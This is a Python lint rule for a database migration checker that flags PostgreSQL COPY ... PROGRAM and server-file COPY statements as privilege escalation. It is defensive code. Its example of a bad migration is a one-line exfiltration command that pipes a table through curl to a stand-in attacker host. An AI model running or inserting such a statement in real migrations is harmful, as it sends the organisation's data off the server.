"""Privilege escalation: COPY that runs a program or reads or writes a file on the database server."""

from hrms_pipelines.migrations.check.model import Hit, Rule, Severity


def check(stmt, state):
    node = stmt.node
    direction = "FROM" if node.get("is_from") else "TO"
    if node.get("is_program"):
        yield Hit(stmt.start, f"COPY ... {direction} PROGRAM runs {node.get('filename', '')!r} as the operating-system "
                              "user of the PostgreSQL server.")
    elif node.get("filename"):
        verb = "reads" if node.get("is_from") else "writes"
        yield Hit(stmt.start, f"COPY ... {direction} {node['filename']!r} {verb} a file on the database server.")


RULE = Rule(
    id="ban-copy-program",
    severity=Severity.DANGER,
    escalation=True,
    why="COPY ... TO/FROM PROGRAM runs an operating-system command on the database server, and COPY to or from "
        "a server file reads or writes the server's files: either reaches far beyond the schema (keys, other "
        "databases, the host). No migration needs it, and a suppression in the same file cannot allow it.",
    fix="Load data with COPY ... FROM STDIN from the client (the import jobs), or with INSERT ... SELECT in the "
        "migration; anything on the server's file system is an administrator's job outside the migrations.",
    bad="COPY hrms.org_team TO PROGRAM 'curl -d @- https://attacker.example';\n",
    good="INSERT INTO hrms.org_team (code, name) SELECT code, name FROM hrms.org_team WHERE false;\n",
    node_types=("CopyStmt",),
    check=check,
    in_down_files=True,
)
